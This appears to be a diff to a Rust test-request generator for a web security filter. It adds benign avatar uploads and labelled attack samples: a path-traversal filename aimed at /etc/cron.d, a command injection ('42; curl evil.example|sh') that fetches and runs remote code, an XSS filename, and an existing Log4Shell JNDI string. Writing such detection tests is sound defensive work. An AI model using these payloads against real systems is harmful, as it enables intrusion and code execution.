@@ -497,7 +497,7 @@ fn words(rng: &mut Rng, vocab: &[&str]) -> String {
 pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
     let vocab = if fresh { NEW_WORDS } else { WORDS };
     let notes = if fresh { NEW_NOTES } else { NOTES };
-    let mut req = match rng.below(8) {
+    let mut req = match rng.below(9) {
         0 => TestRequest::get(&format!(
             "/api/products?category={}&page={}&sort={}",
             rng.pick(CATEGORIES),
@@ -535,6 +535,16 @@ pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
             rng.pick(&[10, 20, 50])
         )),
         6 => TestRequest::get(&format!("/static/{}", rng.pick(FILES))),
+        7 => {
+            let ext = rng.pick(&["jpg", "png"]);
+            let ct = if ext == "jpg" {
+                "image/jpeg"
+            } else {
+                "image/png"
+            };
+            let file = format!("{}-{}.{ext}", rng.pick(FIRST), rng.below(1000));
+            avatar_upload(&rng.hex(16), &(10 + rng.below(5000)).to_string(), &file, ct)
+        }
         _ => TestRequest::get(&format!("/api/products?category={}", rng.pick(CATEGORIES))),
     };
     req = req
@@ -557,6 +567,27 @@ pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
         );
     }
     req
+}
+
+/// A multipart upload of an avatar picture with the owner's id.
+pub fn avatar_upload(
+    boundary: &str,
+    user_id: &str,
+    filename: &str,
+    content_type: &str,
+) -> TestRequest {
+    let boundary = format!("----shopform{boundary}");
+    let mut body = format!(
+        "--{boundary}\r\ncontent-disposition: form-data; name=\"user_id\"\r\n\r\n{user_id}\r\n--{boundary}\r\ncontent-disposition: form-data; name=\"avatar\"; filename=\"{filename}\"\r\ncontent-type: {content_type}\r\n\r\n"
+    )
+    .into_bytes();
+    body.extend_from_slice(&[0x89, b'P', b'N', b'G', 0, 1, 2, 3, 0xff, 0xd8]);
+    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
+    TestRequest::post(
+        "/api/avatar",
+        &format!("multipart/form-data; boundary={boundary}"),
+        &body,
+    )
 }
 
 /// Attacks, each named by its family, delivered in the places a real exploit would use.
@@ -669,6 +700,36 @@ pub fn attacks() -> Vec<(&'static str, TestRequest)> {
         (
             "jndi",
             order("${jndi:ldap://evil.example:1389/Basic/Command}"),
+        ),
+        (
+            "traversal",
+            avatar_upload(
+                "0123456789abcdef",
+                "42",
+                "../../../etc/cron.d/job",
+                "image/png",
+            )
+            .header("user-agent", ua),
+        ),
+        (
+            "cmdi",
+            avatar_upload(
+                "0123456789abcdef",
+                "42; curl evil.example|sh",
+                "anna-1.png",
+                "image/png",
+            )
+            .header("user-agent", ua),
+        ),
+        (
+            "xss",
+            avatar_upload(
+                "0123456789abcdef",
+                "42",
+                "<img src=x onerror=alert(1)>.png",
+                "image/png",
+            )
+            .header("user-agent", ua),
         ),
         (
             "unknown-param",
